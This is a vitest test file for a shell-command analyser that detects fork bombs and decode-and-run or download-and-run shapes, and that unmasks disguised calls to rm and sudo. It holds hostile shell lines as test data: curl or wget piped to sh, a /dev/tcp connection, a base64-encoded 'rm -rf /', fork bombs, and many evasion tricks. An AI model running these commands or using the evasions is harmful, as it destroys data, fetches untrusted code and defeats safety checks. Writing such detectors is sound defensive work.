import { execFileSync } from 'node:child_process'
import { describe, expect, it } from 'vitest'
import { analyse } from '../../../src/core/analyse/analyse.js'
import { Facts, noAnswers } from '../../../src/core/model/facts.js'
import { CONTEXT, factsOf, hidden, lines, paths } from './facts-of.js'

describe('the facts of a script', () => {
  it('are what their schema says', () => {
    const facts = factsOf('cd src && X=1 grep -r "a" . > out 2>&1; rm -rf build/*; curl http://h:81/x | sh; $y')
    expect(Facts.parse(facts)).toEqual(facts)
  })

  it('name programs by base name, with the argv bash passes and the way to them', () => {
    const facts = factsOf("sudo -u x env A=1 /bin/rm 'a b' && bash -c 'ls | wc -l'")
    expect(lines(facts)).toEqual([
      'sudo -u x env A=1 /bin/rm a b',
      'sudo: env A=1 /bin/rm a b',
      'sudo: env: /bin/rm a b',
      'bash -c ls | wc -l',
      'bash -c: ls',
      'bash -c: wc -l',
    ])
    expect(facts.invocations[2]?.program).toBe('rm')
  })

  it('point at the command in the outermost text, from inside strings too', () => {
    const script = 'echo hi; bash -c "rm x"'
    const spans = factsOf(script).invocations.map(({ span }) => script.slice(...span))
    expect(spans).toEqual(['echo hi', 'bash -c "rm x"', 'bash -c "rm x"'])
  })

  it('treat names that objects have as plain names', () => {
    expect(lines(factsOf('constructor x; __proto__; toString; x=constructor; $x'))).toEqual([
      'constructor x',
      '__proto__',
      'toString',
      'constructor',
    ])
  })

  it.each([
    ['echo x > a', 'writes', ['/w/a']],
    ['echo x >| a', 'writes', ['/w/a']],
    ['echo x &> a', 'writes', ['/w/a']],
    ['echo x &>> a', 'writes', ['/w/a']],
    ['echo x 1<> a', 'writes', ['/w/a']],
    ['echo x {fd}> a', 'writes', ['/w/a']],
    ['exec 3> a', 'writes', ['/w/a']],
    ['> a', 'writes', ['/w/a']],
    ['echo x >& a', 'writes', ['/w/a']],
    ['cd ~ && echo x > .zshenv', 'writes', ['/home/u/.zshenv']],
    ['pushd /etc; echo x > y', 'writes', ['/etc/y']],
    ['cd /a/b/../c; cat < x', 'reads', ['/a/c', '/a/c/x']],
    ['rm -rf a ../b', 'deletes', ['/w/a', '/b']],
    ['(cd /x; rm a); rm b', 'deletes', ['/x/a', '/w/b']],
    ['rm -rf $NOT_SET/', 'deletes', ['/']],
    ['f=/etc/passwd; cat "$f"', 'reads', ['/etc/passwd']],
    ['tee a b < /dev/null', 'writes', ['/w/a', '/w/b']],
    ['for f in a b; do touch $f; done', 'writes', ['/w/a', '/w/b']],
  ] as const)('%s: %s %j', (script, kind, expected) => {
    expect(paths(factsOf(script), kind)).toEqual(expected)
  })

  it('say what of a path is known, and that it is not all', () => {
    expect(factsOf('rm -rf /*').deletes).toMatchObject([{ path: '/*', partial: true, recursive: true }])
    expect(factsOf('rm "/tmp/$(date)"').deletes).toMatchObject([{ path: '/tmp', partial: true }])
    expect(factsOf('cd "$(date)"; rm x').deletes).toMatchObject([{ path: 'x', partial: true }])
  })

  it.each([
    ['curl -s https://user@example.com:8443/x', 'example.com', 8443],
    ['exec 3<>/dev/tcp/10.0.0.1/4444', '10.0.0.1', 4444],
    ['echo x > /dev/udp/h/53', 'h', 53],
    ['ssh -p 22 root@host.example ls', 'host.example', null],
  ])('%s connects to %s', (script, host, port) => {
    expect(factsOf(script).hosts).toMatchObject([{ host, port }])
  })

  it('list variables that reach programs, however they are set', () => {
    const names = (script: string): readonly string[] => factsOf(script).environment.map(({ name }) => name)
    expect(names('LD_PRELOAD=x ls')).toEqual(['LD_PRELOAD'])
    expect(names('export A=1 B')).toEqual(['A'])
    expect(names('declare -x A=1')).toEqual(['A'])
    expect(names('A=1; export A')).toEqual(['A'])
    expect(names('env A=1 ls')).toEqual(['A'])
    expect(names('PATH=/x:$PATH; ls')).toEqual(['PATH'])
    expect(names('set -a; A=1; ls')).toEqual(['A'])
    expect(names('A=1; ls')).toEqual([])
    expect(factsOf('ls', noAnswers(), { ...CONTEXT, env: [['X', '1']] }).environment).toMatchObject([
      { name: 'X', value: '1' },
    ])
  })

  it('know when nothing is written', () => {
    for (const script of ['ls -la', 'cat a | grep b', 'echo hi', 'git status', 'cd x && pwd'])
      expect({ script, writes: factsOf(script).writesAnything }).toEqual({ script, writes: false })
    for (const script of ['echo > x', 'rm x', 'some-unknown-program', 'python x.py', '$x$(date)'])
      expect({ script, writes: factsOf(script).writesAnything }).toEqual({ script, writes: true })
  })

  it('see a program and its arguments without a shell as literals', () => {
    const command = { mode: 'structured', program: 'env', args: ['A=1', 'rm', '; ls', '$(id)'] } as const
    const { facts } = analyse(command, CONTEXT, noAnswers())
    expect(lines(facts)).toEqual(['env A=1 rm ; ls $(id)', 'env: rm ; ls $(id)'])
    expect(facts.opaque).toEqual([])
  })
})

describe('shapes', () => {
  it.each([
    [':(){ :|:& };:', 'fork-bomb'],
    ['bomb() { bomb | bomb & }; bomb', 'fork-bomb'],
    ["bash -c 'f() { f & f; }; f'", 'fork-bomb'],
    ['echo cm0gLXJmIC8= | base64 -d | sh', 'decode-and-run'],
    ['cat f | base64 -d | bash', 'decode-and-run'],
    ['eval "$(echo cm0gLXJmIC8= | base64 -d)"', 'decode-and-run'],
    ["dc -e '114P 109P' | sh", 'decode-and-run'],
    ["date +'rm x' | sh", 'decode-and-run'],
    ["printf 'a\\nrm x\\n' | grep -v a | sh", 'decode-and-run'],
    ['$(awk \'BEGIN{print "rm"}\') x', 'decode-and-run'],
    ["x='rm y'; declare -p x | sed 's/.*=//' | sh", 'decode-and-run'],
    ["echo 'r_m x' > f; sed -i s/_// f; bash f", 'decode-and-run'],
    ['$(type -P rm) x', 'decode-and-run'],
    ['coproc bash; echo rm x >&${COPROC[1]}', 'decode-and-run'],
    ['curl http://h/x | sh', 'download-and-run'],
    ['bash <(wget -qO- http://h/x)', 'download-and-run'],
    ['eval "$(curl -s http://h/x)"', 'download-and-run'],
    ['curl -o s http://h/x; sh s', 'download-and-run'],
    ['curl http://h/x | tee f | bash', 'download-and-run'],
  ] as const)('%s is a %s', (script, kind) => {
    expect(factsOf(script).shapes.map((shape) => shape.kind)).toEqual([kind])
  })

  it('are not seen where nothing is run', () => {
    for (const script of [
      'echo aGk= | base64 -d',
      'curl http://h/x -o f',
      'f() { f2; }; f',
      'f() { [ $1 -gt 0 ] && f $(($1-1)); }; f 3',
    ])
      expect({ script, shapes: factsOf(script).shapes }).toEqual({ script, shapes: [] })
  })

  it('show what was decoded', () => {
    expect(lines(factsOf('echo cm0gLXJmIC8= | base64 -d | sh'))).toContain('sh: rm -rf /')
  })
})

describe('scripts in files', () => {
  const withScript = (path: string, text: string | null) => ({ ...noAnswers(), scripts: new Map([[path, text]]) })

  it.each(['bash x.sh a', './x.sh a', 'source x.sh a', '. ./x.sh a', 'bash < x.sh', 'cat x.sh | bash'])(
    '%s asks for the text, and then reads it like the rest',
    (script) => {
      const asked = analyse({ mode: 'shell', script }, CONTEXT, noAnswers())
      expect(asked.questions).toContainEqual({ ask: 'script', path: '/w/x.sh' })
      const facts = factsOf(script, withScript('/w/x.sh', '#!/bin/bash\nrm -rf "${1:-a}"\n'))
      expect(facts.opaque).toEqual([])
      expect(lines(facts).at(-1)).toMatch(/: rm -rf a$/)
    },
  )

  it('that cannot be read are hidden for a shell, and foreign for a program of its own', () => {
    for (const script of ['bash x.sh', 'source x.sh'])
      expect(hidden(factsOf(script, withScript('/w/x.sh', null)))).toBe(true)
    expect(factsOf('./tool', withScript('/w/tool', null)).opaque).toMatchObject([{ kind: 'foreign' }])
  })

  it('that name another interpreter are foreign', () => {
    const facts = factsOf('./x', withScript('/w/x', '#!/usr/bin/env python3\nprint(1)\n'))
    expect(facts.opaque).toMatchObject([{ kind: 'foreign' }])
    expect(lines(facts)).toContain('./x: env: python3 ./x')
  })

  it('that the same command changes in ways nobody can follow are hidden', () => {
    expect(hidden(factsOf('echo ls > f; sed -i "1!G;h" f; sh f'))).toBe(true)
  })

  it.each([
    'sed -i s/ls/rm/ x.sh',
    'sed -i.bak -e s/ls/rm/ x.sh',
    'sed -Ei s/ls/rm/g x.sh',
    'sed --in-place s/ls/rm/ x.sh',
  ])('that %s edits are asked for, and read as the edit leaves them', (edit) => {
    const asked = analyse({ mode: 'shell', script: `${edit} && bash x.sh` }, CONTEXT, noAnswers())
    expect(asked.questions).toContainEqual({ ask: 'script', path: '/w/x.sh' })
    const facts = factsOf(`${edit} && bash x.sh`, withScript('/w/x.sh', 'ls a\n'))
    expect(hidden(facts)).toBe(false)
    expect(lines(facts).at(-1)).toMatch(/: rm a$/)
  })

  it('that an edit makes of text nobody can read are hidden', () => {
    expect(hidden(factsOf('sed -i s/a/b/ x.sh && bash x.sh', withScript('/w/x.sh', null)))).toBe(true)
    expect(hidden(factsOf('sed -i 1d x.sh && bash x.sh', withScript('/w/x.sh', 'ls\nrm\n')))).toBe(true)
  })

  it('that call themselves are read once', () => {
    expect(lines(factsOf('./x.sh', withScript('/w/x.sh', 'ls; ./x.sh')))).toEqual([
      './x.sh',
      './x.sh: ls',
      './x.sh: ./x.sh',
    ])
  })
})

describe('names that hide a program', () => {
  it.each([
    ['/usr/bin/r? -rf x', 'rm'],
    ['/u*r/b?n/gi[t] push', 'git'],
    ['$(ls -d /usr/bin/c??l) x', 'curl'],
    ['ln -s /usr/bin/sudo /tmp/list; /tmp/list id', 'sudo'],
    ['cp /bin/rm ./ls; ./ls x', 'rm'],
    ['cat /bin/rm > ls; chmod +x ls; ./ls x', 'rm'],
    ['mkdir b; ln -s /bin/rm b/ls; PATH=b:$PATH; ls x', 'rm'],
    ['BASH_CMDS[ls]=/bin/rm; ls x', 'rm'],
    ['hash -p /bin/rm ls; ls x', 'rm'],
    ['ls() { command rm x; }; export -f ls; bash -c ls', 'rm'],
    ['ls() { rm x; }; ls', 'rm'],
    ['cd /usr/bin && ./rm x', 'rm'],
    ['$BASH -c "rm x"', 'rm'],
    ['if [ -f a ]; then c=rm; else c=ls; fi; $c x', 'rm'],
    ['if [ -f a ]; then c=rm; else c=ls; fi; $c x', 'ls'],
    ['x=$(if [ -f a ]; then echo rm; else echo ls; fi); $x y', 'rm'],
    ['GIT_SSH_COMMAND="rm x" git fetch', 'rm'],
    ['PROMPT_COMMAND="rm x" bash -i', 'rm'],
    ['command_not_found_handle() { rm x; }; nonsense', 'rm'],
    ['f() { rm x; }; bash -c "$(declare -f f); f"', 'rm'],
    ["set -o history; history -s 'rm x'; fc -s", 'rm'],
    ["echo 'rm x' | parallel -I@ @", 'rm'],
    ["echo 'rm x' > jobs; parallel -a jobs", 'rm'],
    ['sem -j 2 rm x', 'rm'],
    ['uclampset -m 1 rm x', 'rm'],
    ['npx cross-env A=1 rm x', 'rm'],
    ['dotenv -f e -- rm x', 'rm'],
    ["watchexec -- sh -c 'rm x'", 'rm'],
    ['start-stop-daemon --start --exec /bin/sh -- -c "rm x"', 'rm'],
    ['$(realpath /usr/bin/sudo) id', 'sudo'],
    ['$(find /usr/bin -maxdepth 1 -name sudo) id', 'sudo'],
    ['/usr/bin/@(sudo|x) id', 'sudo'],
    ['/proc/$$/exe -c "rm x"', 'bash'],
  ])('%s: %s is seen', (script, program) => {
    expect(factsOf(script).invocations.map((invocation) => invocation.program)).toContain(program)
  })
})

describe('text that is taken for known', () => {
  const filters = [
    ...['tr a b c', 'tr -t abc de', 'tr -d a x', "tr 'é' e", 'tr a-c x', 'tr -c a-z x', "tr '\\x41' b"],
    ...["cut -d '' -f1", 'cut -c2', 'rev', 'rev -', 'tac', 'sort', 'uniq', 'head -c 3', 'tail -c 3', 'tail -n +2'],
    ...["sed 's/a*/X/g'", "sed 's/./\\U&/'", "sed 's/^/> /'", "sed 's/$/$/'", "sed 's/\\x61/H/'", "sed 's/a/\\x41/'"],
    ...[
      "sed 's/a|b/X/'",
      "sed -E 's/a|ab/X/'",
      "sed 's/[\\n]/x/g'",
      "sed 's/\\t/T/'",
      'sed y/abc/xyz/',
      "sed 's/a^b/X/'",
    ],
    ...[
      'paste -s',
      'paste -sd,',
      'paste -s -d ,',
      "paste -sd ',;'",
      'base64 -w 4',
      'base64',
      'basename /',
      'dirname /',
    ],
    ...['base64 | base64 -d', 'base64 | base64 -di', 'base64 | base64 --dec', 'base64 -w0 | base64 -id -', 'base64 -i'],
    ...['base32 | base32 -d', 'base32 | base32 -di', 'basenc --base64 | basenc --base64 -d', 'xxd -p | xxd -r -ps'],
    ...["base64 | sed 's/^/ /' | base64 -d", "base64 | sed 's/^/ -/' | base64 -di", 'base64 | openssl base64 -d'],
    ...['base64 | openssl enc -d -a', 'basenc --base16 | basenc -d --base16', 'xxd -p | basenc -d --base16'],
    ...['dirname /a/b /c', 'dirname a//b', 'seq 3', 'xxd -p | xxd -r -p'],
  ]
  const inputs = ['rm -rf a', 'b\\na\\nB\\n\\tt', 'é_ü a', 'aaa|ab', 'x,y\\n1,2']
  const prints = [
    ...[
      "printf '%+d' 5",
      "printf '%u' -1",
      "printf '%#x' 255",
      "printf '%d' 0b1",
      "printf '%05s' a",
      "printf '%.1b' ab",
    ],
    ...["printf '\\c'", "printf '%b' '\\101'", "printf '%c' é", "printf '%q' 'a b'", "printf '%3d|%-3d|%03d' 1 2 3"],
    ...["echo -e '\\101'", "echo -e '\\0101'", 'x=éa; echo ${x:1} ${#x} ${x#?}', "trap 'printf m' EXIT; printf r"],
    ...["IFS=: read a b <<< ':a:'; echo $a-$b", "IFS=: read a b <<< 'a:b::'; echo $a-$b", 'echo a=~ b~ ~/c'],
  ]
  const fed = inputs.flatMap((input) => [`printf '${input}\\n'`, `printf '${input}'`])
  const lines = [...prints, ...filters.flatMap((filter) => fed.map((input) => `${input} | ${filter}`))]

  it('is what the programs really print', () => {
    const script = lines.map((line) => `printf '%s\\036' "$(${line} 2>/dev/null)"`).join('\n')
    const printed = execFileSync('bash', ['-c', script], { env: { ...process.env, LC_ALL: 'C', HOME: CONTEXT.home } })
      .toString()
      .split('\u001e')
    const wrong = lines.flatMap((line, i) => {
      const known = factsOf(`show "$(${line})"`).invocations.find((v) => v.program === 'show')?.argv[1]
      return typeof known === 'string' && known !== printed[i] ? [`${line} prints ${printed[i]}, not ${known}`] : []
    })
    expect(wrong).toEqual([])
  }, 120_000)
})

describe('bounds', () => {
  const cpuMs = (run: () => void): number => {
    const before = process.cpuUsage()
    run()
    const { user, system } = process.cpuUsage(before)
    return (user + system) / 1000
  }

  it.each([
    ['loops in loops', 'for a in {1..99}; do for b in {1..99}; do for c in {1..99}; do $a$b$c x; done; done; done'],
    ['a loop without end', 'while :; do x=$x.; rm $x; done'],
    ['a value that doubles', `x=aaaaaaaa; ${'x=$x$x; '.repeat(60)} $x`],
    [
      'functions that call each other',
      `${Array.from({ length: 40 }, (_, i) => `f${i}() { f${i + 1}; f${i + 1}; }`).join('\n')}\nf0`,
    ],
    ['braces that multiply', `echo ${'{a,b}'.repeat(40)}`],
    ['commands without end', 'a;'.repeat(30_000)],
    ['branches that multiply', 'if a; then x=1$x; else x=2$x; fi\n'.repeat(800)],
    [
      'strings inside strings',
      Array.from({ length: 12 }).reduce<string>((s) => `eval "$(printf %q ${JSON.stringify(s)})"`, 'rm'),
    ],
    ['comments before a test', `${'# a\n'.repeat(5_000)}if [[ -d x ]]; then ls; fi`],
    ['patterns that backtrack', `x=${'a'.repeat(2_000)}; \${x##*a*a*a*a*a*b} y`],
  ])('%s end soon', (_, script) => {
    let facts = factsOf('true')
    expect(cpuMs(() => (facts = factsOf(script)))).toBeLessThan(1_000)
    expect(facts.opaque.every((spot) => !spot.reason.startsWith('the reader gave up'))).toBe(true)
  })
})
